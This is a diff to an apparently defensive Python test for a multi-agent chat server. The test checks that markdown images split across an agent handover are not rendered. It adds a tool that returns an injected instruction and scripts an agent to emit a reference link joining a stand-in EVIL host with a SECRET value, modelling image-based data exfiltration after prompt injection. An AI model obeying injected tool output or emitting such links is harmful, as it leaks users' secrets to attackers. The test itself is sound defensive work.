@@ -138,10 +138,19 @@ async def test_an_image_in_two_steps_is_none(tmp_path: Path) -> None:
 
 async def test_an_image_by_two_agents_is_none(tmp_path: Path) -> None:
     """Who goes on behind a handover finishes no image that the agent before has begun."""
+
+    @own_tool
+    async def look() -> str:
+        """Look."""
+        return INJECTION
+
+    def toolbox(target: Any) -> list[OwnTool]:
+        return [look] if target.name == "editor" else []
+
     agents = [agent("desk", handoffs=["editor"]), agent("editor")]
     one, other = Text(f"![x][it] ![y]({EVIL}1)"), Text(f"[it]: {EVIL}{SECRET}")
-    lines = {"desk": [Script(one, ToolCall("transfer_to_editor"))], "editor": [Script(other)]}
-    async with team(tmp_path, agents, lines) as (served, _):
+    lines = {"desk": [Script(one, ToolCall("transfer_to_editor"))], "editor": [Script(ToolCall("look")), Script(other)]}
+    async with team(tmp_path, agents, lines, toolbox=toolbox) as (served, _):
         chunks = chunks_of(await stream_bytes(served, chat_body(model="desk")))
         assert text_of(chunks) == f"![x][it] [image: y]({EVIL}1)\n\n[it]\\: {EVIL}{SECRET}"
 
